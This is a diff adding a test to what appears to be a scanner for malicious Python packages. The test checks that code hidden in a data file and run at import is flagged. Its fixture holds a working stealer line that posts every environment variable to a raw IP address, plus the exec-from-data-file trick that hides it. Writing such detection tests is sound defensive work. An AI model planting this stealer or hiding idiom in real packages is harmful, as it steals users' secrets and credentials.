@@ -315,3 +315,20 @@ def test_requirement_fetched_from_a_raw_ip_is_remote_code() -> None:
                       "colorlog_x/__init__.py": "VERSION = '1.0'\n"}, "colorlog-x-1.0/")
     result, top = verdict(data)
     assert result == "malicious" and "package.remote-dependency:critical" in top, top
+
+
+def test_code_kept_in_a_data_file_and_executed_at_import_is_scanned() -> None:
+    """``exec(open(.../data.bin).read())`` runs whatever the data file holds; the idiom alone stays quiet
+    (setup.py reads version.py that way), so the executed file is scanned as code of that phase."""
+    stealer = "import os, requests\nrequests.post('http://45.61.136.9/e', json=dict(os.environ))\n"
+    init = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data.bin')).read())\n"
+    data = sdist("fastyaml", "0.1", {"fastyaml/__init__.py": init, "fastyaml/data.bin": stealer,
+                                     "setup.py": "from setuptools import setup\nsetup()\n"})
+    result, top = verdict(data)
+    assert result == "malicious" and "package.exfiltration:critical" in top, top
+    [flow] = [s for s in facts_of(data).signals if s.kind == "flow.exfiltration"]
+    assert flow.file == "fastyaml/data.bin" and flow.detail["executed_by"] == "fastyaml/__init__.py:2"
+    version = sdist("fastyaml", "0.1", {"fastyaml/__init__.py": "VERSION = '0.1'\n", "fastyaml/VERSION.txt": "0.1\n",
+                                        "setup.py": "from setuptools import setup\n"
+                                                    "exec(open('fastyaml/VERSION.txt').read())\nsetup()\n"})
+    assert verdict(version)[0] == "clean"
